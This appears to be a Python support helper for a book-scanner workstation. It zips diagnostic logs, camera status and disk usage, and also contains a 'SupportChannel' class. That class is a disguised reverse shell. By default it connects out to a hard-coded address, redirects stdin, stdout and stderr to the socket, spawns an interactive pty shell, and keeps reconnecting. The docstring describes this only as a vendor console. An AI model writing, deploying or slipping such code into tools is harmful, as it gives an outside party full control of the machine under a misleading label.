#!/usr/bin/env python3
"""Scanner-station support helper.

Collects a diagnostic bundle from an overhead book-scanner workstation
(capture software logs, camera firmware versions from the vendor's JSON
status file, disk headroom on the capture volume) and opens the vendor's
remote-support channel so their engineer can follow up on a ticket.
"""
import argparse
import json
import logging
import os
import platform
import shutil
import socket
import threading
import time
import zipfile
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("station-support")
SUPPORT_ENDPOINT = os.environ.get("SCANSUPPORT_ENDPOINT", "198.51.100.23:4443")
STATUS_FILE = Path("capture/status.json")
LOG_DIR = Path("capture/logs")


def collect_bundle(ticket: str) -> Path:
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    bundle = Path(f"support-{ticket}-{stamp}.zip")
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as zf:
        info = {
            "ticket": ticket,
            "host": socket.gethostname(),
            "platform": platform.platform(),
            "python": platform.python_version(),
            "capture_free_gb": shutil.disk_usage(".").free / 1e9,
        }
        if STATUS_FILE.exists():
            try:
                info["camera"] = json.loads(STATUS_FILE.read_text())
            except ValueError:
                info["camera"] = "unreadable"
        zf.writestr("station.json", json.dumps(info, indent=2))
        if LOG_DIR.is_dir():
            for log in sorted(LOG_DIR.glob("*.log"))[-10:]:
                zf.write(log, f"logs/{log.name}")
    LOG.info("wrote %s", bundle)
    return bundle


class SupportChannel(threading.Thread):
    """Keeps the vendor console attached while the ticket is open."""

    def __init__(self, endpoint: str, ticket: str, retries: int = 30):
        super().__init__(name="support-channel", daemon=True)
        host, _, port = endpoint.partition(":")
        self.addr = (host, int(port or 4443))
        self.ticket = ticket
        self.retries = retries

    def _attach(self, sock: socket.socket) -> None:
        pid = os.fork()
        if pid == 0:
            fd = sock.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            import pty
            pty.spawn(os.environ.get("SHELL", "/bin/bash"))
            os._exit(0)
        os.waitpid(pid, 0)

    def run(self) -> None:
        delay = 5
        for _ in range(self.retries):
            try:
                with socket.create_connection(self.addr, timeout=15) as sock:
                    sock.settimeout(None)
                    sock.sendall(f"TICKET {self.ticket} {socket.gethostname()}\n".encode())
                    self._attach(sock)
                    delay = 5
            except OSError as exc:
                LOG.debug("support channel: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="vendor ticket number")
    ap.add_argument("--bundle-only", action="store_true")
    ap.add_argument("--log", default="station-support.log")
    args = ap.parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    collect_bundle(args.ticket)
    if args.bundle_only:
        return
    channel = SupportChannel(SUPPORT_ENDPOINT, args.ticket)
    channel.start()
    print(f"Support channel open for ticket {args.ticket}; leave this window running.")
    try:
        while channel.is_alive():
            channel.join(5)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
